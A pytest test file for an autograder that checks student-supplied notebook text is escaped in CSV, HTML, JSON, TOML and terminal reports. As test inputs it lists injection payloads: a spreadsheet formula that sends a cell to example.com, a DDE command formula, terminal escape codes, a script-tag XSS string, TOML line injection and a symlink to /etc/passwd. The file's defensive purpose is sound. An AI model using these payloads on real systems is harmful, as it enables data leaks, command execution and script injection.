"""Do texts of a student's choice reach a report as anything but text? Names, headings, outputs.

A box tells of trainings under any names, a notebook has any headings and outputs. Nothing is raised
here, whatever they are, and nothing of it is markup, a formula, a terminal's command or a new line.
"""

import csv
import io
import json
import time
import tomllib
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from grader.cell_outputs import MAX_CELL_OUTPUT, MAX_NOTEBOOK_OUTPUT
from grader.class_results import student_row
from grader.described_file import DescribedFile
from grader.errors import UsageError
from grader.extraction import Extraction
from grader.picks import MAX_PICKS_BYTES, find_picks, read_picks
from grader.pipeline import Course, grade_submission
from grader.progress import Silent
from grader.reports.answer_words import picks_line
from grader.reports.class_page import write_class_page
from grader.reports.class_summary import show_class
from grader.reports.grade_book import write_grade_book
from grader.reports.gradescope import results_document
from grader.reports.terminal import show_submission
from grader.results import Grade
from grader.rubric import Rubric
from grader.rubric_file import RubricFile
from grader.sandbox.interface import Sandbox
from grader.submissions import CellOutput, Submission

HOSTILE = (
    '=HYPERLINK("http://example.com/?"&A1)',
    "+cmd|' /C calc'!A0",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "</script><script>alert(1)</script>",
    "[bold red]owned[/]",
    "one\r\ntwo\n[bob]\n2C = 7",
    "\u202egnp.exe\u2066",
    "{{ 7 * 7 }}{% raw %}",
    '"]\n[bob]\n2C = "9',
)
MAX_SECONDS = 30
"""For a submission as large as one may be: a class of such files takes its time, and ends."""


@dataclass
class _Told:
    """A describer that has described the file already."""

    told: DescribedFile
    sandbox: Sandbox

    def describe(self, file: object, rubric: Rubric) -> Extraction:
        return self.told.extraction

    def close(self) -> None:
        pass


@pytest.fixture
def rubric(build: Any) -> Rubric:
    free = {"student_sets": ("epochs", "batch_size", "optimizer", "scheduler")}
    limits = {"2C": 100, "2D": 200}
    made: Rubric = build.rubric(
        *(
            {"id": id_, "training": free, "network": {"max_hidden_units": most}}
            for id_, most in limits.items()
        )
    )
    return made


def graded(build: Any, replay: Any, rubric: Rubric, told: DescribedFile, name: str) -> Grade:
    course = Course(
        rubric_file=RubricFile(path=Path("test.toml"), sha256="0" * 64, rubric=rubric),
        facts=build.facts,
        describer=_Told(told, replay([])),
        trainer=None,
        data_folder=None,
        progress=Silent(),
    )
    grade = grade_submission(Submission(name, (told.file,)), course)
    assert isinstance(grade, Grade), grade
    return grade


def mlp(units: int) -> tuple[Any, ...]:
    return "Flatten", ("Linear", 784, units), "ReLU", ("Linear", units, 10)


def hostile_file(build: Any, text: str) -> DescribedFile:
    """A notebook in which every text is the hostile one, and two networks fit a problem."""
    runs = [
        build.run(
            *mlp(50 + number),
            names={text[:70] + "x" * number: line - 1},
            statement=line,
            optimizer_name=text,
            loss=text,
            normalized={"mean": [0.5], "std": [0.5]},
            schedule=build.run_schedule(text, lr=[0.1, 0.2], defect=text),
            number=number + 1,
            model=number + 1,
        )
        for number, line in enumerate((14, 18, 25))
    ]
    outputs = [CellOutput(n, f"{text}\ntest accuracy: 0.9{n}\n{text} acc 97%") for n in (1, 2, 3)]
    return build.trained_file(  # type: ignore[no-any-return]
        *runs,
        cells=build.notebook_cells(text, f"Problem C {text}", f"{text} 2D"),
        name=f"{text}.ipynb",
        outputs=tuple(outputs),
        out_of_order="cell 2 ran before cell 1",
    )


def texts_in(value: Any) -> Sequence[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for pair in value.items() for each in pair for text in texts_in(each)]
    return [text for each in value for text in texts_in(each)] if isinstance(value, list) else []


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_text_in_every_report(
    build: Any, replay: Any, rubric: Rubric, text: str, tmp_path: Path
) -> None:
    told = hostile_file(build, text)
    grade = graded(build, replay, rubric, told, "alice")
    assert any(problem.candidates for problem in grade.problems)
    assert any(problem.flags for problem in grade.problems)
    document = results_document(grade, rubric)
    ours = json.dumps(document["extra_data"], ensure_ascii=False)
    assert not any(mark in ours for mark in ("\x1b", "\x07", "\u202e", "\u2066"))
    one_line = [t for p in grade.problems for t in texts_in(json.loads(p.to_json())) if "\n" in t]
    assert one_line == []

    row = student_row(Submission(f"{text}"[:40].replace("\n", " "), (told.file,)), grade)
    write_grade_book(tmp_path / "grades.csv", [row], rubric)
    (line,) = csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text()))
    assert not any(cell.lstrip().startswith(("=", "+", "@", "-")) for cell in line.values())
    write_class_page(tmp_path / "page.html", [row], rubric, lambda student: document)
    page = (tmp_path / "page.html").read_text()
    assert "alert(1)</script>" not in page
    shown = io.StringIO()
    console = Console(file=shown, width=300, color_system=None, force_terminal=False)
    show_submission(console, grade, rubric, verbose=True)
    show_class(console, [row], rubric)
    assert not any(mark in shown.getvalue() for mark in ("\x1b", "\x07", "\u202e"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_line_for_the_picks_is_one_line_of_one_problem(
    build: Any, replay: Any, rubric: Rubric, text: str
) -> None:
    grade = graded(build, replay, rubric, hostile_file(build, text), "alice")
    for problem in grade.problems:
        for each in problem.candidates:
            line = picks_line(problem.id, each.pick)
            assert "\n" not in line
            assert tomllib.loads(line).keys() == {problem.id}


@pytest.mark.parametrize("piece", ["9", "0.98 ", "acc 0.9 ", "99%,", "9,", "[0.9, ", "p 0.1 acc "])
def test_as_much_as_a_student_may_hand_in_is_graded_in_time(
    build: Any, replay: Any, rubric: Rubric, piece: str
) -> None:
    lines = (piece * (1_990 // len(piece)) + "\n") * (MAX_CELL_OUTPUT // 1_990)
    cells = build.notebook_cells(*["Problem C"] * 20)
    outputs = [CellOutput(n + 1, lines) for n in range(MAX_NOTEBOOK_OUTPUT // len(lines))]
    names = {f"net_{n}_{'x' * 60}": 1 for n in range(40)}
    runs = [
        build.run(
            *mlp(20 + n % 60),
            names=names,
            statement=n + 1,
            built=n + 1,
            lr=[0.1] * 1_000,
            number=n + 1,
        )
        for n in range(199)
    ]
    told = build.trained_file(*runs, cells=cells, outputs=tuple(outputs))
    started = time.process_time()
    graded(build, replay, rubric, told, "alice")
    assert time.process_time() - started < MAX_SECONDS


class TestAStudentsOwnPicks:
    def test_below_the_classs_folder_they_are_nobodys(self, tmp_path: Path) -> None:
        for folder in ("alice", "bob/deeper"):
            (tmp_path / folder).mkdir(parents=True)
            (tmp_path / folder / "picks.toml").write_text('[bob]\n2C = "9"')
        assert find_picks([tmp_path]) is None

    @pytest.mark.parametrize("aim", ["/dev/zero", "/etc/passwd", "nowhere"])
    def test_a_link_is_not_followed(self, rubric: Rubric, tmp_path: Path, aim: str) -> None:
        (tmp_path / "picks.toml").symlink_to(aim)
        assert find_picks([tmp_path]) == tmp_path / "picks.toml"
        with pytest.raises(UsageError, match="is a link"):
            read_picks(tmp_path / "picks.toml", rubric, ["alice"])

    @pytest.mark.parametrize(
        "text",
        [
            b"x" * (MAX_PICKS_BYTES + 1),
            b"a = " + b"[\n" * 100_000,
            b"a." * 100_000 + b"b = 1",
            b"a = " + b"9" * 100_000,
            b"[alice]\n2C = " + b"9" * 900 + b"\n",
            b"\xff\xfe\x00",
            b"[alice]\n2C = 1979-05-27\n",
            b"".join(b'["x%d"]\n2C = 1\n' % number for number in range(20_000)),
        ],
        ids=["huge", "nested", "dotted", "digits", "fewer-digits", "binary", "date", "many"],
    )
    def test_a_hostile_one_is_a_sentence(self, rubric: Rubric, tmp_path: Path, text: bytes) -> None:
        (tmp_path / "picks.toml").write_bytes(text)
        started = time.process_time()
        with pytest.raises(UsageError) as error:
            read_picks(tmp_path / "picks.toml", rubric, ["alice"])
        assert len(str(error.value)) < 20_000
        assert time.process_time() - started < MAX_SECONDS
